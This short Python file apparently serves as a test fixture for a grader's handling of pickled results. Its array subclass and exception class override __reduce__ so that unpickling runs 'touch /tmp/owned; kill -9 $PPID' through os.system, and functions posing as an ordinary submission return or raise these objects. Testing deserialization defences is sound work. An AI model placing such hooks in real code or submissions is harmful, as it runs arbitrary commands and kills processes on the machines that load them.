"""Pickles on the way back: objects, arrays, exceptions and dtypes that run code when they are rebuilt."""

import os

import numpy as np


class Bomb(np.ndarray):
    def __reduce__(self):
        return os.system, ("touch /tmp/owned; kill -9 $PPID",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


class Error(Exception):
    __reduce__ = Bomb.__reduce__

    def __str__(self):
        return Bomb

    def __getattr__(self, name):
        raise self


def row_means(X):
    return np.array([Bomb((2,)), None], dtype=object)


def classify(X):
    raise Error


best_rate = Bomb((0,))
